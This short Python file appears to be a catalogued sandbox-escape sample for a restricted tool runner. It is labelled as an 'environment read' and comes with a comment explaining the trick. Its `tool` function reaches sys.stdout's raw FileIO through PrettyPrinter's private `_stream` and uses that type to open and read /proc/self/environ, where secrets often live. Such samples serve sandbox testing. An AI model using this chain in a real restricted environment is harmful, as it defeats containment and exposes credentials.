# family: environment reads
# escape: PrettyPrinter()._stream is sys.stdout (private name allowed because the tool defines `_stream`); its
# buffer.raw is an io.FileIO and type(raw)(path) opens any file, here /proc/self/environ (the environment).
import pprint

class Sink:
    def __init__(self):
        self._stream = None

def tool(path: str = "/proc/self/environ") -> list:
    raw = pprint.PrettyPrinter()._stream.buffer.raw
    return type(raw)(path).read().split(b"\0")
